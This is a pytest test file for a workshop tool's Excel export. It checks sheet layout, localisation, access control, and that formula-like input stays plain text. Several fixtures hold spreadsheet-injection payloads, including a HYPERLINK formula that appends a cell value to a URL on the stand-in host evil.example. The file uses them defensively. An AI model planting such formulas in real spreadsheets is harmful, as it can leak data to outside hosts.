"""The Excel action list: what the follow-up owners open, in the workshop's language."""

import csv
import shutil
import subprocess
from dataclasses import dataclass
from datetime import date
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func
from sqlmodel import Session, select

from app.models import Item, Link, Participant, Rating, Vote
from app.services import export, items, uow
from app.services.auth import Principal, Role
from app.services.errors import Forbidden


@dataclass
class Seeded:
    situation: int
    other_situation: int
    hidden_situation: int
    cause: int
    other_cause: int
    action: int
    formula_action: int
    hidden_action: int
    merged_action: int


def add(session: Session, w, kind: str, text: str, area: int = 0, links=(), **fields) -> int:
    """A note straight into the database, numbered per kind as add_item numbers it."""
    if "number" not in fields:
        highest = session.exec(
            select(func.max(Item.number)).where(Item.workshop_id == w.id, Item.kind == kind)
        ).one()
        fields["number"] = (highest or 0) + 1
    item = Item(workshop_id=w.id, focus_area_id=w.area(area), kind=kind, text=text, **fields)
    session.add(item)
    session.flush()
    assert item.id is not None
    for target in links:
        session.add(Link(workshop_id=w.id, from_item_id=item.id, to_item_id=target))
    return item.id


def seed(session: Session, w) -> Seeded:
    """A small workshop: two situations → two causes → actions, with votes and ratings.
    Needs at least two participants."""
    s1 = add(session, w, "situation", "Öppen droghandel vid resecentrum")
    s2 = add(session, w, "situation", "Otrygghet i parken på kvällen", area=1)
    s_hidden = add(session, w, "situation", "Dubblett som dolts", hidden=True)
    c1 = add(session, w, "cause", "Unga saknar sysselsättning", links=[s1])
    c2 = add(session, w, "cause", "Dålig belysning", area=1, links=[s2, s1, s_hidden])
    a1 = add(
        session,
        w,
        "action",
        "Fler fältassistenter kvällstid",
        links=[c1, c2],
        owner_organization="Kommunen",
        owner_person="Anna Berg",
        due_date=date(2027, 3, 31),
        status="planned",
        priority=1,
    )
    a2 = add(session, w, "action", '=HYPERLINK("http://evil.example","klicka")', links=[c2])
    a3 = add(session, w, "action", "Dold åtgärd", hidden=True)
    a4 = add(session, w, "action", "Sammanslagen dubblett", merged_into_id=a1)
    first, second = (p.id for p in w.participants[:2])
    for pid, item_id in [(first, a1), (second, a1), (first, a2), (first, c1), (second, c1)]:
        kind = "action" if item_id in (a1, a2) else "cause"
        session.add(Vote(workshop_id=w.id, participant_id=pid, item_id=item_id, kind=kind))
    session.add(Rating(workshop_id=w.id, participant_id=first, item_id=a1, impact=5, effort=2))
    session.add(Rating(workshop_id=w.id, participant_id=second, item_id=a1, impact=4, effort=2))
    session.commit()
    return Seeded(s1, s2, s_hidden, c1, c2, a1, a2, a3, a4)


def workbook_of(session: Session, w) -> Workbook:
    data = export.export_xlsx(session, w.facilitator_principal, w.id)
    return load_workbook(BytesIO(data))


def header(ws) -> list[str]:
    return [c.value for c in ws[1]]


def column(ws, name: str) -> list:
    index = header(ws).index(name)
    return [row[index] for row in ws.iter_rows(min_row=2, values_only=True)]


def test_sheets_and_headers_are_in_swedish_for_a_swedish_workshop(session, make_workshop) -> None:
    w = make_workshop(participants=2)
    seed(session, w)
    wb = workbook_of(session, w)
    assert wb.sheetnames == [
        "Åtgärdsplan",
        "Åtgärder",
        "Orsaker",
        "Lägesbild",
        "Deltagare",
        "Per organisation",
        "Historik",
        "Om",
    ]
    actions = header(wb["Åtgärder"])
    for name in ["Åtgärd", "Orsak", "Lägesbild", "Ansvarig organisation", "Ansvarig"]:
        assert name in actions
    for name in ["Klart senast", "Status", "Prioritet", "Prickar"]:
        assert name in actions
    assert header(wb["Orsaker"])[:4] == ["ID", "Fokusområde", "Orsak", "Prickar"]


def test_sheets_and_headers_are_in_english_for_an_english_workshop(session, make_workshop) -> None:
    w = make_workshop(participants=2, language="en")
    seed(session, w)
    wb = workbook_of(session, w)
    assert wb.sheetnames == [
        "Action plan",
        "Actions",
        "Causes",
        "Situation picture",
        "Participants",
        "By organization",
        "History",
        "About",
    ]
    assert header(wb["Actions"]) == [
        "ID",
        "Focus area",
        "Action",
        "Priority",
        "Dots",
        "Impact (mean)",
        "Effort (mean)",
        "Ratings",
        "Owner organization",
        "Owner",
        "Due date",
        "Status",
        "Cause",
        "Situation",
        "Taken forward",
    ]
    assert column(wb["Actions"], "Status") == ["Planned", "Proposed"]


def test_each_action_row_carries_the_chain_back_to_what_was_seen(session, make_workshop) -> None:
    w = make_workshop(participants=2, language="en")
    ids = seed(session, w)
    ws = workbook_of(session, w)["Actions"]
    rows = {
        row[0]: dict(zip(header(ws), row, strict=True))
        for row in ws.iter_rows(min_row=2, values_only=True)
    }
    first = rows[ids.action]
    assert first["Cause"] == (
        f"#{ids.cause} Unga saknar sysselsättning\n#{ids.other_cause} Dålig belysning"
    )
    # each situation once, the hidden duplicate left out
    assert first["Situation"] == (
        f"#{ids.situation} Öppen droghandel vid resecentrum\n"
        f"#{ids.other_situation} Otrygghet i parken på kvällen"
    )
    assert first["Dots"] == 2 and first["Impact (mean)"] == 4.5 and first["Effort (mean)"] == 2
    assert first["Owner organization"] == "Kommunen" and first["Owner"] == "Anna Berg"
    assert first["Priority"] == 1 and first["Focus area"] == "Drugs"
    causes = {row[0]: row for row in workbook_of(session, w)["Causes"].iter_rows(values_only=True)}
    assert f"#{ids.action} Fler fältassistenter kvällstid" in causes[ids.other_cause][5]
    assert causes[ids.cause][3] == 2  # votes


def test_hidden_and_merged_notes_are_not_exported(session, make_workshop) -> None:
    w = make_workshop(participants=2)
    ids = seed(session, w)
    wb = workbook_of(session, w)
    everything = " ".join(
        str(v) for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for v in row
    )
    assert "Dold åtgärd" not in everything and "Sammanslagen dubblett" not in everything
    assert "Dubblett som dolts" not in everything
    assert column(wb["Åtgärder"], "ID") == [ids.action, ids.formula_action]
    assert column(wb["Lägesbild"], "ID") == [ids.situation, ids.other_situation]


def test_the_due_date_is_a_real_date_cell(session, make_workshop) -> None:
    w = make_workshop(participants=2)
    seed(session, w)
    ws = workbook_of(session, w)["Åtgärder"]
    index = header(ws).index("Klart senast") + 1
    cell = ws.cell(row=2, column=index)
    assert cell.is_date and cell.value.date() == date(2027, 3, 31)
    assert cell.number_format == "yyyy-mm-dd"


def test_every_table_has_a_frozen_header_a_filter_and_print_setup(session, make_workshop) -> None:
    w = make_workshop(participants=2)
    seed(session, w)
    wb = workbook_of(session, w)
    for ws in wb.worksheets[:4]:
        assert ws.freeze_panes == "A2", ws.title
        assert ws.auto_filter.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}{ws.max_row}"
        assert ws.page_setup.orientation == "landscape"
        assert ws.page_setup.fitToWidth == 1 and ws.sheet_properties.pageSetUpPr.fitToPage
        assert ws.print_title_rows == "$1:$1"
        assert ws["A2"].alignment.wrap_text or ws["C2"].alignment.wrap_text
    actions = wb["Åtgärder"]
    widths = {c: actions.column_dimensions[c].width for c in "ABC"}
    assert widths["A"] < widths["C"] <= 60  # the id is narrow, the action text wide


def test_status_is_a_drop_down_of_translated_labels(session, make_workshop) -> None:
    w = make_workshop(participants=2)
    seed(session, w)
    ws = workbook_of(session, w)["Åtgärder"]
    status_col = ws.cell(1, header(ws).index("Status") + 1).column_letter
    lists = [v for v in ws.data_validations.dataValidation if v.type == "list"]
    assert len(lists) == 1
    assert lists[0].formula1 == '"Föreslagen,Planerad,Pågår,Klar,Struken"'
    assert str(lists[0].sqref) == f"{status_col}2:{status_col}3"
    assert column(ws, "Status") == ["Planerad", "Föreslagen"]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example","klicka")',
        "+46 70 123 45 67",
        "-1+2",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_like_text_stays_text(session, make_workshop, text: str) -> None:
    w = make_workshop(participants=2)
    add(session, w, "action", text, owner_person=text, owner_organization=text)
    session.commit()
    wb = workbook_of(session, w)
    ws = wb["Åtgärder"]
    row = {h: ws.cell(2, i + 1) for i, h in enumerate(header(ws))}
    for name in ("Åtgärd", "Ansvarig", "Ansvarig organisation"):
        # (XML turns a carriage return into a line break)
        assert row[name].data_type == "s" and row[name].value == text.replace("\r", "\n")
        assert row[name].quotePrefix  # stays text when edited in Excel or LibreOffice
    for sheet in wb.worksheets:
        for cells in sheet.iter_rows():
            assert all(c.data_type != "f" for c in cells), sheet.title


def test_participants_are_counted_per_organization_without_names(session, make_workshop) -> None:
    w = make_workshop(participants=3, language="en")
    session.add(Participant(workshop_id=w.id, display_name="Bo", token_hash="x" * 64))
    session.add(
        Participant(
            workshop_id=w.id, display_name="Eva", organization="Polisen", token_hash="y" * 64
        )
    )
    session.commit()
    wb = workbook_of(session, w)
    rows = list(wb["Participants"].iter_rows(min_row=2, values_only=True))
    # Joined as "Kommunen" in an English workshop: not on its list, so "Other".
    assert rows == [
        ("Other", 3),
        ("Polisen", 1),
        ("(no organization given)", 1),
    ]
    sheet = wb["Participants"]
    # No names are shown, so there is no names column standing empty.
    assert header(sheet) == ["Organization", "Participants"]
    everything = " ".join(str(v) for row in sheet.iter_rows(values_only=True) for v in row)
    assert "Deltagare 1" not in everything and "Eva" not in everything


def test_the_names_column_lists_the_names_people_gave_when_names_are_shown(
    session, make_workshop
) -> None:
    w = make_workshop(participants=0)
    session.add(
        Participant(
            workshop_id=w.id, display_name="Eva", organization="Polisen", token_hash="y" * 64
        )
    )
    session.add(Participant(workshop_id=w.id, organization="Polisen", token_hash="z" * 64))
    session.commit()
    uow.run(items.set_show_names, w.facilitator_principal, w.id, True)
    sheet = workbook_of(session, w)["Deltagare"]
    assert header(sheet) == ["Organisation", "Deltagare", "Namn"]
    assert list(sheet.iter_rows(min_row=2, values_only=True)) == [("Polisen", 2, "Eva")]


def test_the_about_sheet_says_what_this_is_and_how_to_bring_it_back(session, make_workshop) -> None:
    w = make_workshop(participants=2, language="en", title="Tryggare Värnamo")
    ws = workbook_of(session, w)["About"]
    about = {row[0]: row[1] for row in ws.iter_rows(values_only=True)}
    assert about["Title"] == "Tryggare Värnamo"
    assert about["Workshop number"] == w.id
    assert about["Date"].date() == date.today()
    assert "Exported (UTC)" in about and "Facilitator" in about
    assert "upload" in about["How to re-import"] and "ID" in about["How to re-import"]


def test_the_export_is_only_for_facilitator_and_follow_up(session, make_workshop) -> None:
    w = make_workshop(participants=1)
    export.export_xlsx(session, Principal(Role.followup, w.id), w.id)
    for role in (Role.board, Role.participant):
        with pytest.raises(Forbidden):
            export.export_xlsx(session, Principal(role, w.id, w.participants[0].id), w.id)


def test_actions_are_ranked_by_priority_then_votes(session, make_workshop) -> None:
    w = make_workshop(participants=2)
    ids = seed(session, w)
    late = add(session, w, "action", "Prioritet två", priority=2)
    session.commit()
    ranked = export.results(session, w.facilitator_principal, w.id).actions
    assert [a.id for a in ranked] == [ids.action, late, ids.formula_action]
    assert [a.rank for a in ranked] == [1, 2, 3]


@pytest.mark.skipif(
    shutil.which("soffice") is None, reason="LibreOffice missing: make e2e-deps installs it"
)
def test_libreoffice_opens_the_export_and_keeps_formula_like_text_as_text(
    session, make_workshop, tmp_path
) -> None:
    w = make_workshop(participants=2, language="en")
    ids = seed(session, w)
    book = tmp_path / "book.xlsx"
    book.write_bytes(export.export_xlsx(session, w.facilitator_principal, w.id))
    every_sheet = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path}/profile",  # parallel runs do not collide
            "--headless",
            "--convert-to",
            every_sheet,
            "--outdir",
            str(tmp_path),
            str(book),
        ],
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=180,
        check=True,
    )
    with (tmp_path / "book-Actions.csv").open(newline="", encoding="utf-8") as handle:
        rows = {row[0]: row for row in csv.reader(handle)}
    assert rows["ID"][:3] == ["ID", "Focus area", "Action"]
    # LibreOffice did not evaluate it: the cell shows the text, not the link's "klicka"
    assert rows[str(ids.formula_action)][2] == '=HYPERLINK("http://evil.example","klicka")'
    assert rows[str(ids.action)][10] == "2027-03-31" and rows[str(ids.action)][11] == "Planned"
    for sheet in ("Causes", "Situation picture", "Participants", "History", "About"):
        assert (tmp_path / f"book-{sheet}.csv").exists()
    # The action plan opens too, in Brå's column order, the follow-up colour as its words.
    with (tmp_path / "book-Action plan.csv").open(newline="", encoding="utf-8") as handle:
        plan = list(csv.reader(handle))
    assert plan[0][:6] == [
        "Cause no.",
        "Cause",
        "Action",
        "Operational goals",
        "When",
        "Who – organization",
    ]
    assert [row[-1] for row in plan[1:]] == [str(ids.action), str(ids.formula_action)]


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
@pytest.mark.parametrize("control", ["\x01", "\x1f", "\x0b\x0c"])
def test_a_control_character_before_a_formula_does_not_make_it_one(
    session, make_workshop, control: str, start: str
) -> None:
    """The cells are checked after the XML-illegal characters are dropped, not before: once
    they are gone the text starts with =, + , - or @, and it must still be a text cell."""
    w = make_workshop(participants=2, language="en")
    raw = f'{control}{start}HYPERLINK("http://evil.example/?"&A1,"Klicka")'
    clean = raw.replace(control, "")
    situation = add(session, w, "situation", raw, group_label=raw)
    cause = add(session, w, "cause", raw, links=[situation])
    add(
        session,
        w,
        "action",
        raw,
        links=[cause],
        owner_organization=raw,
        owner_person=raw,
    )
    session.commit()
    wb = workbook_of(session, w)
    texts = {
        "Actions": ["Action", "Owner organization", "Owner", "Cause", "Situation"],
        "Causes": ["Cause", "Situation", "Action"],
        "Situation picture": ["Situation", "Group", "Cause"],
    }
    for sheet, names in texts.items():
        ws = wb[sheet]
        row = {h: ws.cell(2, i + 1) for i, h in enumerate(header(ws))}
        for name in names:
            cell = row[name]
            assert cell.data_type == "s", (sheet, name)
            assert clean in cell.value and control not in cell.value, (sheet, name)
            if cell.value.startswith(clean):  # the note itself, not "#12 …" linked text
                assert cell.quotePrefix, (sheet, name)
    for ws in wb.worksheets:
        for cells in ws.iter_rows():
            assert all(c.data_type != "f" for c in cells), ws.title


@pytest.mark.parametrize("text", ["#N/A", "#DIV/0!", "#REF!"])
def test_text_that_looks_like_an_error_value_stays_text(session, make_workshop, text: str) -> None:
    w = make_workshop(participants=2, language="en")
    add(session, w, "action", text, owner_person=text)
    session.commit()
    ws = workbook_of(session, w)["Actions"]
    row = {h: ws.cell(2, i + 1) for i, h in enumerate(header(ws))}
    for name in ("Action", "Owner"):
        assert row[name].data_type == "s" and row[name].value == text
